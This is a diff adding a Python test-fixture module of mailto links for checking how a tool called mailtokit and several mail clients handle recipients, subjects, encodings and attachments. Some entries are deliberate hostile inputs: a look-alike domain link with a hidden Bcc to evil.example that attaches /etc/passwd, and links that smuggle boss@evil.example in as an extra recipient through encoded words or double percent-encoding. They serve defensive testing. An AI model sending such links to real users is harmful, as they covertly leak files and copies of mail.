@@ -1,0 +1,76 @@
+"""The links more than one test opens.
+
+- LINKS: the mail-client tests' links (tests/clients): id -> (link, the compatibility cells it
+  decides): several To, Cc and Bcc with user+tag@, a subject with & + % # ? = and UTF-8, a
+  multi-line UTF-8 body, an IDN domain, a display name with a comma, attach=, a 10 KB body
+  (LONG_BODY), hostile addresses (issue 39) and subjects that look like options or files.
+- HOMOGRAPH, BCC_ONLY, BCC_INVOICE, PLAIN: what mailtokit asks about (a look-alike address with a
+  hidden copy and an attachment; a hidden copy alone; one with a subject) and a link it opens unasked.
+- DISPLAY_NAME: an address with a display name holding a comma, percent-encoded.
+"""
+
+from __future__ import annotations
+
+from urllib.parse import quote
+
+HOMOGRAPH = "mailto:admin@%D0%B0pple.com?bcc=x@evil.example&subject=Invoice&attach=%2Fetc%2Fpasswd"
+BCC_ONLY = "mailto:a@example.org?bcc=x@evil.example"
+BCC_INVOICE = BCC_ONLY + "&subject=Invoice"
+PLAIN = "mailto:friend@example.org?subject=hi"
+DISPLAY_NAME = "%22Doe%2C%20Jane%22%20%3Cjane%40example.org%3E"
+
+
+def _long_body() -> str:
+    lines = []
+    i = 0
+    while sum(len(x.encode()) + 2 for x in lines) < 10240:
+        lines.append(f"{i:03d} Zeile mit Umlauten äöü und € — the quick brown fox {i * 7 % 97:02d}")
+        i += 1
+    return "\r\n".join(lines)
+
+
+def _pct(s: str) -> str:
+    return quote(s, safe="")
+
+
+LONG_BODY = _long_body()
+
+# id -> (link, the compatibility cells this link decides)
+LINKS: dict[str, tuple[str, list[str]]] = {
+    "recipients": ("mailto:ann@example.org,user+tag@example.org?cc=carol@example.org,dave@example.net"
+                   "&bcc=eve@example.org,frank@example.com&subject=recipients", ["To", "Cc", "Bcc"]),
+    "subject": ("mailto:s@example.org?subject=a%26b%2Bc%25d%23e%3Ff%3Dg%20%C3%A9t%C3%A9%20%E2%82%AC%20%E7%B4%8D%E8%B1%86",
+                ["Subject specials", "UTF-8"]),
+    "body": ("mailto:b@example.org?subject=body&body=Gr%C3%BC%C3%9Fe%20%E2%82%AC%2C%0D%0A%0D%0Aline%202%20%E7%B4%8D%E8%B1%86"
+             "%0D%0A%20%20indented%20line%0D%0Alast%20line", ["Multi-line body"]),
+    "idn": ("mailto:info@%E7%B4%8D%E8%B1%86.example.org?cc=x@b%C3%BCcher.example&subject=idn", ["IDN"]),
+    "display": ("mailto:" + DISPLAY_NAME + "?subject=display", ["Display name"]),
+    "attach": ("mailto:a@example.org?subject=attach&body=see%20nothing%20attached&attach=/etc/hostname"
+               "&attachment=file:///etc/hostname", ["attach dropped"]),
+    "long": ("mailto:l@example.org?subject=long&body=" + _pct(LONG_BODY), ["10 KB body"]),
+    # Hostile addresses (issue 39): text the program's own decoder would turn into another
+    # recipient. mailtokit leaves such an address out, or its display name off, and says so; the
+    # draft must then hold exactly what inspect shows less what was told (handed_over()).
+    # Thunderbird decodes an RFC 2047 word in a quoted display name (in To and Cc)...
+    "hostile-name": ("mailto:?to=%22%3D%3Futf-8%3Fb%3FeCIgPGJvc3NAZXZpbC5leGFtcGxlPiwgIg%3D%3D%3F%3D%22%20%3Ca%40corp.example%3E"
+                     "&cc=%22%3D%3Futf-8%3Fb%3FeCIgPGJvc3NAZXZpbC5leGFtcGxlPiwgIg%3D%3D%3F%3D%22%20%3Cc%40corp.example%3E"
+                     "&subject=name", ["Hostile addresses"]),
+    # ... an encoded word as a local part (B and Q, To and Cc) ...
+    "hostile-local": ("mailto:%3D%3Futf-8%3Fb%3FYm9zc0BldmlsLmV4YW1wbGUsIHg%3D%3F%3D@corp.example,ok@corp.example"
+                      "?cc=%3D%3Fiso-8859-1%3Fq%3Fboss%3D40evil.example%3D2C_y%3F%3D@corp.example,c@corp.example"
+                      "&subject=local", ["Hostile addresses"]),
+    # ... and decodes the address part twice when the link has a query.
+    "hostile-pct": ("mailto:boss%2540evil.example%252C%2520x@corp.example,ok@corp.example?subject=pct",
+                    ["Hostile addresses"]),
+    # Evolution decodes an encoded word that is a whole addr-spec; here also a quoted Q word in a
+    # display name of a hidden copy.
+    "hostile-whole": ("mailto:%3D%3Futf-8%3Fb%3FYm9zc0BldmlsLmV4YW1wbGUgKHh5%3F%3D@corp.example,ok@corp.example"
+                      "?bcc=%22%3D%3Futf-8%3Fq%3Fx%3D2C_boss%3D40evil.example%3F%3D%22%20%3Cb%40corp.example%3E"
+                      "&subject=local2", ["Hostile addresses"]),
+    # A literal "=?" in a subject reaches the program as typed; an option-like subject stays a
+    # subject (KMail read --subject=ession as -session); a subject ending like a file name is no
+    # file to open (Thunderbird's content handler takes .ics, .msf, ... as files).
+    "subject-quiz": ("mailto:q@example.org?subject=Quiz%3A%202%2B2%3D%3F", ["Subject specials"]),
+    "subject-option": ("mailto:o@example.org?subject=ession", ["Subject specials"]),
+    "subject-file": ("mailto:f@example.org?subject=invite.ics", ["Subject specials"]),
+}
